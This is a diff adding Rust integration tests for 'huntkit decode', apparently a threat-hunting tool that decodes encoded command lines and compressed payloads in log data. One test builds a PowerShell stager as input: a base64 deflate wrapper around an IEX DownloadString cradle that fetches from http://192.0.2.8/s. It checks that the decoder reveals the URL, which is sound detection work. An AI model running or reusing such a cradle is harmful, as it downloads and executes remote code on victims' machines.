@@ -1,0 +1,109 @@
+//! `huntkit decode` as a user runs it.
+
+use std::io::Write;
+
+mod common;
+
+fn data(name: &str) -> String {
+    format!("{}/../../examples/data/{name}", env!("CARGO_MANIFEST_DIR"))
+}
+
+fn json_lines(out: &std::process::Output) -> Vec<serde_json::Value> {
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    String::from_utf8_lossy(&out.stdout)
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect()
+}
+
+#[test]
+fn decodes_a_column_of_process_events() {
+    let file = data("processes_on_host.csv");
+    let (out, _) = common::run(
+        &[
+            "decode",
+            &file,
+            "--column",
+            "CommandLine",
+            "--format",
+            "json",
+        ],
+        b"",
+    );
+    let rows = json_lines(&out);
+    assert!(rows.iter().any(|r| r["encoding_type"] == "utf-16"
+        && r["decoded_string"]
+            .as_str()
+            .is_some_and(|s| s.contains("Invoke"))));
+}
+
+/// A gzip that inflates to more than the output budget (here 8 MiB): the JSON carries the
+/// first bytes as hex, the flag and the hashes of the whole, not 16 MiB of hex.
+#[test]
+fn binary_content_is_cut_in_text_outputs() {
+    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
+    gz.write_all(&vec![0u8; 1 << 20]).unwrap();
+    let member = gz.finish().unwrap();
+    let payload = base64::Engine::encode(
+        &base64::engine::general_purpose::STANDARD,
+        member.repeat(10),
+    );
+    let text = format!("start {payload} end");
+    let budget = ["--max-output-bytes", "8388608"];
+    let (out, _) = common::run(
+        &["decode", "-", "--format", "json", budget[0], budget[1]],
+        text.as_bytes(),
+    );
+    let rows = json_lines(&out);
+    assert!(out.stdout.len() < 1 << 20, "{} bytes", out.stdout.len());
+    let member = rows.iter().find(|r| r["file_name"] == "gzip_file").unwrap();
+    assert_eq!(member["input_bytes"].as_str().unwrap().len(), 2 * 4096);
+    assert_eq!(member["input_bytes_truncated"], true);
+    assert_eq!(member["status"], "truncated");
+    assert_eq!(member["sha256"].as_str().unwrap().len(), 64);
+
+    let (out, _) = common::run(
+        &[
+            "decode",
+            "-",
+            "--format",
+            "csv",
+            "--max-shown-bytes",
+            "16",
+            budget[0],
+            budget[1],
+        ],
+        text.as_bytes(),
+    );
+    let csv = String::from_utf8_lossy(&out.stdout);
+    assert!(csv
+        .lines()
+        .next()
+        .unwrap()
+        .contains("input_bytes,input_bytes_truncated"));
+    assert!(csv.contains(",00000000000000000000000000000000,true,"));
+}
+
+/// Raw DEFLATE inside base64, PowerShell's DeflateStream stager.
+#[test]
+fn deflate_stager_from_the_command_line() {
+    let mut e = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
+    e.write_all(b"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.8/s')")
+        .unwrap();
+    let payload = base64::Engine::encode(
+        &base64::engine::general_purpose::STANDARD,
+        e.finish().unwrap(),
+    );
+    let line = format!(
+        "powershell -c \"IEX(New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream(\
+         [IO.MemoryStream][Convert]::FromBase64String('{payload}'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()\""
+    );
+    let (out, _) = common::run(&["decode", "-", "--text"], line.as_bytes());
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(text.contains("file_type='deflate'"), "{text}");
+    assert!(text.contains("http://192.0.2.8/s"));
+}
